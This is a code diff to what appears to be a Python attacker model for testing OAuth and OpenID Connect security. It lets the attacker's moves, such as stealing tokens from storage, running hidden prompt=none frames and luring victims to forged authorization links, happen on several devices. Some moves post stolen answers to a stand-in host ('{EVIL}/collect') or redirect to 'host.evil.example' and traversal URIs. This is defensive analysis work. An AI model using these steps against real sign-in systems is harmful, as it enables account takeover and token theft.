@@ -31,7 +31,6 @@ Chain = tuple["Move", ...]  # in which `$1.token` stands for what the first of t
 
 HERS, ACCOUNT = "mallory", "mallory_browser"
 AUTHORIZE = f"{ISSUER}/authorize"
-USED_AT = {"mobile": "phone"}  # where Alice uses a client, if that is not her laptop
 FOR_SPAS = ("app",)  # the clients that live in a page unless they have a backend
 CONFIDENTIAL = ("budget",)  # third parties' web apps in which she can have an account, too
 SIGN_IN_CLIENTS = ("app", "budget", "mobile")  # honest clients of the authorization server
@@ -89,8 +88,9 @@ def _reads(question: Question) -> Iterator[Move]:
             say = f"Mallory reads the history of {title(browser)}{about}."
             yield _move(f"{HERS}.read", "gain", "read", say, history=browser, match=match)
     for client in question.of("storage"):
-        place = None if client in CONFIDENTIAL else USED_AT.get(client, "laptop")
-        yield _move(f"{HERS}.read", "gain", "read", f"Mallory reads what {title(client)} keeps.", storage=client, browser=place)
+        for place in (None,) if client in CONFIDENTIAL else question.used_at(client):
+            say = f"Mallory reads what {title(client)} keeps{_where(question, client, place)}."
+            yield _move(f"{HERS}.read", "gain", "read", say, storage=client, browser=place)
     for device in question.of("device"):
         yield _move(f"{HERS}.read", "gain", "read", f"Mallory copies all that is on {title(device)}.", device=device)
 
@@ -133,10 +133,12 @@ def probes(question: Question, stage: Stage, known: tuple[Value, ...], begun: fr
     for ask in wanted:
         yield from _named_in_headers(question, ask, known)
         if "client" in question.can and stage.world.clients["evil_app"].sessions:
-            say = f"Her client asks for {ask.said}."
-            yield (_move("evil_app.call_api", _kind(ask), "call", say, browser="laptop", api=ask.api, method=ask.method, path=ask.path),)
+            for place in question.used_at("evil_app"):
+                say = f"Her client asks for {ask.said}{_where(question, 'evil_app', place)}."
+                args = {"browser": place, "api": ask.api, "method": ask.method, "path": ask.path}
+                yield (_move("evil_app.call_api", _kind(ask), "call", say, **args),)
         for client in question.of("rides") if not ask.changes else ():
-            yield _ridden(client, ask)
+            yield from (_ridden(client, ask, place, _where(question, client, place)) for place in question.used_at(client))
     if begun is not None:
         yield from _own_pages(question, begun)
 
@@ -215,24 +217,18 @@ def _named_in_headers(question: Question, ask: Ask, known: tuple[Value, ...]) ->
         yield (replace(_move(f"{HERS}.call_api", _kind(ask), "call", say, own, token=own.ref, **args), once=True),)
 
 
-def _ridden(client: str, ask: Ask) -> Chain:
+def _ridden(client: str, ask: Ask, place: str, where: str) -> Chain:
     """Her script asks as the page does, by way of its backend, and posts the answer home."""
-    url = f"{CAST[client].host}/api/{ask.api}{ask.path}"
+    url, page = f"{CAST[client].host}/api/{ask.api}{ask.path}", {"browser": place, "in_": client}
     return (
-        _move(
-            f"{HERS}.act",
-            "gain",
-            "act",
-            f"Her script in the page asks for {ask.said}.",
-            browser="laptop",
-            in_=client,
-            url=url,
-            headers=OWN_PAGE,
-        ),
-        _move(
-            f"{HERS}.act", "probe", "act", "It posts the answer home.", browser="laptop", in_=client, url=f"{EVIL}/collect", json="$1.json"
-        ),
+        _move(f"{HERS}.act", "gain", "act", f"Her script in the page asks for {ask.said}{where}.", url=url, headers=OWN_PAGE, **page),
+        _move(f"{HERS}.act", "probe", "act", "It posts the answer home.", url=f"{EVIL}/collect", json="$1.json", **page),
     )
+
+
+def _where(question: Question, client: str, place: str | None) -> str:
+    """Where this happens, in words, if it could be at several places."""
+    return f" on {title(place)}" if place and len(question.used_at(client)) > 1 else ""
 
 
 def _own_pages(question: Question, begun: frozenset[str]) -> Iterator[Chain]:
@@ -290,8 +286,10 @@ def changes(question: Question, stage: Stage, known: tuple[Value, ...], begun: f
     if "account" in question.can:
         yield from _own_flows(stage, known, begun)
     if "lures" in question.can:
-        yield from _lured_to_hers(known)
-        yield from _lured_to_ask(question)
+        for browser in question.browsers:
+            where = f" on {title(browser)}" if len(question.browsers) > 1 else ""
+            yield from _lured_to_hers(known, browser, where)
+            yield from _lured_to_ask(question, browser, where)
     if "account" in question.can:
         yield from _handed_on(known)
 
@@ -319,8 +317,9 @@ def _taken(question: Question) -> Iterator[Move]:
     """Reading what a page keeps, and leaving nothing there: the client cannot renew, and no reuse is seen."""
     for client in question.of("storage"):
         if client in FOR_SPAS:
-            say = f"Mallory takes what {title(client)} keeps, and leaves nothing."
-            yield _move(f"{HERS}.read", "change", "read", say, storage=client, browser="laptop", take=True)
+            for place in question.used_at(client):
+                say = f"Mallory takes what {title(client)} keeps{_where(question, client, place)}, and leaves nothing."
+                yield _move(f"{HERS}.read", "change", "read", say, storage=client, browser=place, take=True)
 
 
 def _warmed(question: Question, known: tuple[Value, ...]) -> Iterator[Move]:
@@ -375,9 +374,10 @@ def _requests(question: Question, client: str, place: str) -> Iterator[tuple[str
 def _framed(question: Question, client: str) -> Iterator[Move]:
     """Her script opens an authorization request in a frame that nobody sees, and reads where it ends (OIDC Core §3.1.2.1, prompt=none)."""
     for what, query in _requests(question, client, f"{CAST[client].host}/cb"):
-        say = f"In a frame Mallory's script asks for {what}."
-        args = {"browser": "laptop", "in": client, "url": AUTHORIZE, "change": {"query": query | {"prompt": "none"}}, "frame": True}
-        yield _move(f"{HERS}.act", "change", "act", say, **args)
+        for place in question.used_at(client):
+            say = f"In a frame Mallory's script asks for {what}{_where(question, client, place)}."
+            args = {"browser": place, "in": client, "url": AUTHORIZE, "change": {"query": query | {"prompt": "none"}}, "frame": True}
+            yield _move(f"{HERS}.act", "change", "act", say, **args)
 
 
 def _own_flows(stage: Stage, known: tuple[Value, ...], begun: frozenset[str]) -> Iterator[Move]:
@@ -409,22 +409,21 @@ def _own_flows(stage: Stage, known: tuple[Value, ...], begun: frozenset[str]) ->
             yield _move(f"{ACCOUNT}.follow", "change", "sign in", say, value, change={"fragment": {"access_token": value.ref}})
 
 
-def _lured_to_hers(known: tuple[Value, ...]) -> Iterator[Move]:
+def _lured_to_hers(known: tuple[Value, ...], browser: str, where: str) -> Iterator[Move]:
     """Answers that Alice never asked for, and requests that Mallory has begun (RFC 9700 §4.7, RFC 6749 §10.12)."""
     for value in known:
         if (value.kind == "address" and value.user == HERS) or value.kind == "asking":
-            args = {"browser": "laptop", "url": value.ref}
-            yield _move(f"{HERS}.lure", "change", "lure", f"Alice follows a link to {_thing(value)}.", value, **args)
+            args, say = {"browser": browser, "url": value.ref}, f"Alice follows a link{where} to {_thing(value)}"
+            yield _move(f"{HERS}.lure", "change", "lure", f"{say}.", value, **args)
             if "state=" in value.value:
-                say = f"Alice follows a link to {_thing(value)}, without state."
-                yield _move(f"{HERS}.lure", "change", "lure", say, value, change={"query": {"state": None}}, **args)
+                bare = {"query": {"state": None}}
+                yield _move(f"{HERS}.lure", "change", "lure", f"{say}, without state.", value, change=bare, **args)
             if value.kind == "asking" and "code_challenge=" in value.value:
-                say = f"Alice follows a link to {_thing(value)}, without the challenge."
-                query = {"code_challenge": None, "code_challenge_method": None}
-                yield _move(f"{HERS}.lure", "change", "lure", say, value, change={"query": query}, **args)
+                bare = {"query": {"code_challenge": None, "code_challenge_method": None}}
+                yield _move(f"{HERS}.lure", "change", "lure", f"{say}, without the challenge.", value, change=bare, **args)
 
 
-def _lured_to_ask(question: Question) -> Iterator[Move]:
+def _lured_to_ask(question: Question, browser: str, where: str) -> Iterator[Move]:
     """Authorization requests of her own making in Alice's browser, answered at the right place and at wrong ones (RFC 9700 §4.1.1)."""
     for client in SIGN_IN_CLIENTS:
         host = CAST[client].host
@@ -433,8 +432,8 @@ def _lured_to_ask(question: Question) -> Iterator[Move]:
             places += [f"{host}.evil.example/cb", f"{host}/cb/../out?u={EVIL}/"]
         for place in places:
             for what, query in _requests(question, client, place):
-                say = f"Alice follows a link that asks for {what}, to be sent to {place}."
-                yield _move(f"{HERS}.lure", "change", "lure", say, browser="laptop", url=AUTHORIZE, change={"query": query})
+                say = f"Alice follows a link{where} that asks for {what}, to be sent to {place}."
+                yield _move(f"{HERS}.lure", "change", "lure", say, browser=browser, url=AUTHORIZE, change={"query": query})
 
 
 def _handed_on(known: tuple[Value, ...]) -> Iterator[Move]:
